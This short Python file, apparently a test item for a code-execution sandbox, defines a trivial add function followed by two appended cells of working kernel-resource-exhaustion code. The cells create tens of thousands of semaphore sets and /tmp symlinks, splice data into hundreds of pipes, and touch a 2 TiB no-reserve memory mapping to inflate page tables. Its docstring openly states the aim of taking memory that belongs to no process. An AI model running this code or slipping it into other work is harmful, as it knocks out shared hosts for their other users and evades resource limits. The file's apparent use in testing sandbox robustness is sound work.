"""Takes memory of the operating system that belongs to no process: semaphores, page tables, links, pages lent to pipes."""
# expects add: 5

# %% add
def add(a, b):
    return a + b

# %% new after add
import ctypes
import mmap
import os

libc = ctypes.CDLL(None, use_errno=True)
held = []
for _ in range(30_000):
    if libc.semget(0, 32_000, 0o600 | 0o1000) < 0:
        break
for number in range(30_000):
    try:
        os.symlink("x" * 200, f"/tmp/{number}")
    except OSError:
        break
for _ in range(400):
    ends = os.pipe()
    held.append(ends)
    if libc.splice(0, None, ends[1], None, 65_536, 0) < 0:
        break

# %% new after add
held = mmap.mmap(-1, 2**41, flags=mmap.MAP_PRIVATE | 0x4000 | mmap.MAP_ANONYMOUS, prot=mmap.PROT_READ)
for place in range(0, 2**41, 2**21):
    held[place]
